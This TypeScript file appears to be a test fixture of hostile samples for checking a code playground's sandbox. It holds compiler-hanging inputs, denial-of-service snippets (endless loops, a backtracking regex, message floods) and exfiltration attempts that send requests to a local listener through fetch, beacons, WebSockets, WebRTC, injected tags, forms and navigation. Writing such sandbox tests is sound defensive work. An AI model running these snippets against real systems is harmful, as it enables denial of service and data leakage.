/** Where code that gets out would be heard. */
export interface Listeners {
  udp: number;
  tcp: number;
}

const component = 'export default () => null;\n';

/** Code that the compiler takes without end for, or nearly. */
export const compilerBombs: Record<string, string> = {
  'async<T>( 28 times': 'async<T>('.repeat(28),
  'a ? (b) : c => 30 times': 'a ? (b) : c => '.repeat(30),
  '100 kB of imports': "import'a'\n".repeat(10_000),
  '100 kB of backticks in JSX text': `export default () => <p>${'`'.repeat(100_000)}</p>;`,
  '20,000 open brackets': '['.repeat(20_000),
};

/** Code that keeps its own frame busy, or floods the page with work. */
const busyCode: Record<string, string> = {
  'an endless loop': `for (;;) {}\n${component}`,
  'an endless loop while rendering': 'export default function Endless() {\n  for (;;) {}\n}\n',
  'promises without end': `const next = (): unknown => Promise.resolve().then(next);\nnext();\n${component}`,
  'a costly regular expression': `/(a+)+$/.test('a'.repeat(45) + 'b');\n${component}`,
  'messages without end': `const go = () => {\n  for (let i = 0; i < 5000; i += 1) parent.postMessage({ type: 'ready' }, '*');\n  setTimeout(go);\n};\ngo();\n${component}`,
  'large messages': `const text = 'x'.repeat(1_000_000);\nsetInterval(() => parent.postMessage(text, '*'), 20);\n${component}`,
  'errors without end': `setInterval(() => {\n  throw new Error('again');\n});\n${component}`,
  'focus, history and dialogs': `setInterval(() => {\n  window.focus();\n  try {\n    history.pushState(null, '', '#' + Math.random());\n  } catch {}\n  alert('x');\n}, 5);\n${component}`,
};

const anyway = (lines: string[]) =>
  `${lines.map((line) => `try {\n  ${line}\n} catch {}`).join('\n')}\n${component}`;

/** Code that tries to send something out. */
function leakingCode({ udp, tcp }: Listeners): Record<string, string> {
  const url = `http://127.0.0.1:${tcp}/leak`;
  const append = (html: string) =>
    `document.body.insertAdjacentHTML('beforeend', ${JSON.stringify(html)});`;
  return {
    WebRTC: anyway([
      `const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${udp}' }] }); peer.createDataChannel('x'); peer.createOffer().then((offer) => peer.setLocalDescription(offer));`,
    ]),
    'fetch, beacon, sockets': anyway([
      `fetch('${url}', { mode: 'no-cors' }).catch(() => {});`,
      `navigator.sendBeacon('${url}', 'x');`,
      `new WebSocket('ws://127.0.0.1:${tcp}/');`,
      `new EventSource('${url}');`,
      `const request = new XMLHttpRequest(); request.open('GET', '${url}'); request.send();`,
    ]),
    'images, styles, scripts and frames': anyway([
      append(
        `<img src="${url}"><link rel="stylesheet" href="${url}"><iframe src="${url}"></iframe>`,
      ),
      append(`<style>body { background: url(${url}) } @import '${url}';</style>`),
      append(
        `<link rel="preload" as="image" href="${url}"><link rel="prefetch" href="${url}"><link rel="preconnect" href="${url}">`,
      ),
      append(
        `<object data="${url}"></object><video src="${url}"></video><audio src="${url}"></audio>`,
      ),
      `const script = document.createElement('script'); script.src = '${url}'; document.body.append(script);`,
    ]),
    'navigation and windows': anyway([
      `window.open('${url}');`,
      `top!.location.href = '${url}';`,
      `location.href = '${url}';`,
    ]),
    'forms, refreshes and workers': anyway([
      append(
        `<form id="leak" method="post" action="${url}"></form><meta http-equiv="refresh" content="0;url=${url}">`,
      ),
      "(document.querySelector('#leak') as HTMLFormElement).submit();",
      `new Worker(URL.createObjectURL(new Blob(["fetch('${url}', { mode: 'no-cors' })"])));`,
    ]),
  };
}

/** Code for the playground, by what it tries. */
export function hostileCode(listeners: Listeners): Record<string, string> {
  return { ...compilerBombs, ...busyCode, ...leakingCode(listeners) };
}
